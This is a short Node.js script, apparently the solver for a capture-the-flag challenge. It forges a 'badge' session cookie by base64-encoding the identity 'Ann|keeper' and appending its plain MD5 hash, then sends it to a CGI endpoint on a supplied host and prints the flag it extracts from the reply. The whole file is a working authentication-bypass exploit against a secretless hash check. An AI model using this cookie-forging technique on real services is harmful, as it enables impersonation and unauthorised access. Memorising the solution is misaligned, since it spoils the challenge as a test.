// usage: node solve.mjs HOST PORT; prints the flag
import { createHash } from 'node:crypto';
import { argv, exit, stdout } from 'node:process';

const body = Buffer.from('Ann|keeper').toString('base64');
const sum = createHash('md5').update(body).digest('hex');
const reply = await fetch(`http://${argv[2]}:${argv[3]}/cgi-bin/rounds`, {
  headers: { cookie: `badge=${body}.${sum}` },
  signal: AbortSignal.timeout(20_000),
});
const flag = /<code>(.+)<\/code>/.exec(await reply.text())?.[1];
stdout.write(`${flag ?? 'The drawer stays shut.'}\n`);
exit(flag ? 0 : 1);
